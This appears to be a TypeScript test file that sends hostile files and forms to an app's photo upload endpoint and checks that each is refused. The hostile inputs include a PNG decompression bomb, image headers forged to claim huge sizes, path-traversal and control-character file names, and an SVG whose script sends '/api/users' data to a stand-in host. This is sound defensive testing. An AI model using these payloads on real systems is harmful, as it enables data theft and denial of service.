import { existsSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Upload } from '../../../server/entities/Upload.js';
import { signedInUser, type SignedInUser } from '../../helpers/auth.js';
import { startTestServer, type TestServer } from '../../helpers/server.js';

/**
 * POST /api/uploads against files and forms a hostile person would send (issue 18): oversize,
 * content that is not what its name or type says, SVG carrying script, images whose header
 * declares far more pixels than the file holds, path tricks in the file name, many files in one
 * form. Each is refused in our error shape, and nothing is left in the uploads folder, anywhere
 * else in the data folder, or in the upload table.
 */

/** CRC-32 (ISO 3309, the polynomial PNG uses: PNG specification, 2nd edition, W3C 2003, annex D), bit by bit. */
function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A real decompression bomb: a valid 1-bit greyscale PNG of 20,000 × 20,000 pixels (400
 * megapixels, four times our limit) whose all-black rows deflate to a few tens of kilobytes.
 * Built from the PNG specification (2nd edition, sections 5.2 signature, 11.2.2 IHDR, 7.3
 * filtering: one filter byte per row), not with the library under test.
 */
function pngBomb(side = 20_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr.set([1, 0, 0, 0, 0], 8); // bit depth 1, greyscale, deflate, adaptive filtering, no interlace
  const rowBytes = 1 + Math.ceil(side / 8);
  const raw = Buffer.alloc(rowBytes * side); // every row: filter 0, all pixels black
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', ihdr), pngChunk('IDAT', deflateSync(raw, { level: 9 })), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A small real JPEG whose baseline frame header (SOF0, ITU-T T.81 B.2.2: P, Y, X) now claims 60,000 × 60,000 pixels. */
async function jpegClaiming(side = 60_000): Promise<Buffer> {
  const bytes = Buffer.from(await sharp({ create: { width: 16, height: 16, channels: 3, background: '#777' } }).jpeg().toBuffer());
  const sof = bytes.indexOf(Buffer.from([0xff, 0xc0]));
  if (sof < 0) throw new Error('no baseline frame header');
  bytes.writeUInt16BE(side, sof + 5); // Y, number of lines
  bytes.writeUInt16BE(side, sof + 7); // X, samples per line
  return bytes;
}

/** A small real lossy WebP whose VP8 key frame (RFC 6386 section 9.1: 14-bit width and height) now claims 16,383 × 16,383 pixels. */
async function webpClaiming(): Promise<Buffer> {
  const bytes = Buffer.from(await sharp({ create: { width: 16, height: 16, channels: 3, background: '#777' } }).webp({ lossless: false }).toBuffer());
  if (bytes.toString('latin1', 12, 16) !== 'VP8 ' || !bytes.subarray(23, 26).equals(Buffer.from([0x9d, 0x01, 0x2a]))) throw new Error('not a simple VP8 WebP');
  bytes.writeUInt16LE(0x3fff, 26);
  bytes.writeUInt16LE(0x3fff, 28);
  return bytes;
}

const svgWithScript = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="640" height="480"><script>fetch("/api/users").then(r=>r.text()).then(t=>navigator.sendBeacon("https://example.invalid/",t))</script><rect width="640" height="480" fill="#c33"/></svg>\n',
);

describe('uploads refuse hostile files and forms, leaving nothing behind', () => {
  let server: TestServer;
  let rigger: SignedInUser;
  let uploadsDir: string;
  let jpeg: Buffer;
  let png: Buffer;

  /** Every file under the data folder except the database's own, and the upload rows. */
  async function leftovers() {
    const files = (dir: string): string[] =>
      existsSync(dir) ? readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? files(path.join(dir, e.name)).map((f) => `${e.name}/${f}`) : [e.name])) : [];
    return { files: files(server.dataDir).filter((f) => !f.startsWith('holdline.sqlite')).sort(), rows: await server.context.dataSource.manager.count(Upload) };
  }

  beforeAll(async () => {
    server = await startTestServer();
    uploadsDir = path.join(server.dataDir, 'uploads');
    rigger = await signedInUser(server, { qualifications: ['rigger'] });
    jpeg = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#3a6' } }).jpeg().toBuffer();
    png = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#36a' } }).png().toBuffer();
    // One accepted photo first, so the uploads folder exists and "nothing new" is a real comparison.
    await request(server.app).post('/api/uploads').set('Authorization', `Bearer ${rigger.token}`).attach('file', jpeg, 'first.jpg').expect(201);
  });
  afterAll(() => server.stop());

  /**
   * The form written by hand (RFC 7578), so the file name reaches the server byte for byte as a
   * hostile client sends it: form libraries cut a name to its last path segment before sending.
   */
  const post = (bytes: Buffer, filename: string | { encoded: string }, contentType = 'application/octet-stream') => {
    const boundary = '----holdline-test-boundary-7c1d2e3f';
    const name = typeof filename === 'string' ? `filename="${filename.replace(/"/g, '%22')}"` : `filename*=${filename.encoded}`;
    const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; ${name}\r\nContent-Type: ${contentType}\r\n\r\n`;
    const body = Buffer.concat([Buffer.from(head, 'utf8'), bytes, Buffer.from(`\r\n--${boundary}--\r\n`, 'utf8')]);
    return request(server.app)
      .post('/api/uploads')
      .set('Authorization', `Bearer ${rigger.token}`)
      .set('Content-Type', `multipart/form-data; boundary=${boundary}`)
      .send(body);
  };

  it('the hostile files are what they claim to be (checked with the image library, not the route)', async () => {
    // Header only: the library's own default pixel limit would refuse to even read these.
    const header = (bytes: Buffer) => sharp(bytes, { limitInputPixels: false }).metadata();
    expect(await header(pngBomb())).toMatchObject({ format: 'png', width: 20_000, height: 20_000 });
    expect(pngBomb().length).toBeLessThan(200_000);
    expect(await header(await jpegClaiming())).toMatchObject({ format: 'jpeg', width: 60_000, height: 60_000 });
    expect(await header(await webpClaiming())).toMatchObject({ format: 'webp', width: 16_383, height: 16_383 });
  });

  it.each([
    // [case, bytes, file name, declared type, status, code]
    ['one byte over 10 MB', async () => Buffer.concat([jpeg, Buffer.alloc(10 * 1024 * 1024 + 1 - jpeg.length)]), 'big.jpg', undefined, 413, 'too_large'],
    ['text named .jpg', async () => Buffer.from('Boom foot pins checked.\n'.repeat(40)), 'boom-foot.jpg', undefined, 415, 'unsupported_image'],
    ['a PNG named .jpg', async () => png, 'pad.jpg', undefined, 415, 'image_mismatch'],
    ['a JPEG named .png', async () => jpeg, 'pad.png', undefined, 415, 'image_mismatch'],
    ['a JPEG sent as image/svg+xml', async () => jpeg, 'pad', 'image/svg+xml', 415, 'image_mismatch'],
    ['a JPEG sent as text/html', async () => jpeg, 'pad', 'text/html', 415, 'image_mismatch'],
    ['a JPEG named .svg', async () => jpeg, 'pad.svg', undefined, 415, 'unsupported_image'],
    ['an SVG with a script, named .svg', async () => svgWithScript, 'lacing.svg', 'image/svg+xml', 415, 'unsupported_image'],
    ['an SVG with a script, named .png', async () => svgWithScript, 'lacing.png', 'image/png', 415, 'unsupported_image'],
    ['an SVG behind a JPEG start marker', async () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), svgWithScript]), 'lacing.jpg', undefined, 415, 'unsupported_image'],
    ['HTML named .webp', async () => Buffer.from('<!doctype html><script>alert(1)</script>'), 'x.webp', undefined, 415, 'unsupported_image'],
    ['a PNG bomb of 400 megapixels', async () => pngBomb(), 'bomb.png', undefined, 413, 'too_large'],
    ['a JPEG header claiming 3,600 megapixels', jpegClaiming, 'claim.jpg', undefined, 413, 'too_large'],
    ['a WebP header claiming 268 megapixels', webpClaiming, 'claim.webp', undefined, 413, 'too_large'],
    ['a name that climbs out of the folder', async () => jpeg, '../../etc/passwd.jpg', undefined, 400, 'bad_file_name'],
    ['a Windows path', async () => jpeg, '..\\..\\holdline.sqlite.jpg', undefined, 400, 'bad_file_name'],
    ['an absolute path', async () => jpeg, '/etc/cron.d/holdline.jpg', undefined, 400, 'bad_file_name'],
    ['a drive letter', async () => jpeg, 'C:holdline.jpg', undefined, 400, 'bad_file_name'],
    // Raw control characters break the part's header itself; percent-encoded (RFC 5987) they reach the name.
    ['a raw NUL in the name', async () => jpeg, 'photo.jpg\u0000.html', undefined, 400, 'bad_request'],
    ['a raw terminal escape in the name', async () => jpeg, 'photo\u001b[2J.jpg', undefined, 400, 'bad_request'],
    ['an encoded NUL in the name', async () => jpeg, { encoded: "UTF-8''photo.jpg%00.html" }, undefined, 400, 'bad_file_name'],
    ['an encoded terminal escape in the name', async () => jpeg, { encoded: "UTF-8''photo%1B%5B2J.jpg" }, undefined, 400, 'bad_file_name'],
    ['an encoded climb out of the folder', async () => jpeg, { encoded: "UTF-8''..%2F..%2Fetc%2Fpasswd.jpg" }, undefined, 400, 'bad_file_name'],
    ['a name of 300 characters', async () => jpeg, `${'a'.repeat(296)}.jpg`, undefined, 400, 'bad_file_name'],
    ['the name ".."', async () => jpeg, '..', undefined, 400, 'bad_file_name'],
  ] as const)('refuses %s, leaving nothing behind', async (_case, make, filename, contentType, status, code) => {
    const bytes = await make();
    const before = await leftovers();
    const res = await post(bytes, filename, contentType);
    expect(res.status, JSON.stringify(res.body)).toBe(status);
    expect(res.body.error).toMatchObject({ code, message: expect.any(String) });
    expect(res.body.error.message.length).toBeGreaterThan(20);
    // The answer never echoes the hostile name back.
    expect(JSON.stringify(res.body)).not.toMatch(/passwd|cron|script|\[2J/);
    expect(await leftovers()).toEqual(before);
  });

  it('refuses twenty files in one form, naming the field, leaving nothing behind', async () => {
    const before = await leftovers();
    let req = request(server.app).post('/api/uploads').set('Authorization', `Bearer ${rigger.token}`);
    for (let n = 0; n < 20; n++) req = req.attach('file', jpeg, `p${n}.jpg`);
    const res = await req;
    expect(res.status).toBe(400);
    expect(res.body.error).toMatchObject({ code: 'validation', fields: [{ path: 'file', message: 'Send one photo at a time.' }] });
    expect(await leftovers()).toEqual(before);
  });

  it('still takes ordinary photos: capital extension, no extension, dots in the name, a name in another script, a generic declared type', async () => {
    const before = readdirSync(uploadsDir).length;
    for (const [bytes, filename, contentType] of [
      [jpeg, 'IMG_2041.JPG', undefined],
      [jpeg, 'photo', undefined],
      [png, 'Crane pad 3.12.2026', undefined],
      [png, 'Kranfuß Süd.png', undefined],
      [jpeg, 'cab.jpeg', 'application/octet-stream'],
    ] as const) {
      const res = await post(bytes, filename, contentType);
      expect(res.status, `${filename}: ${JSON.stringify(res.body)}`).toBe(201);
    }
    // Each is stored with its thumbnail.
    expect(readdirSync(uploadsDir).length).toBe(before + 2 * 5);
  });
});
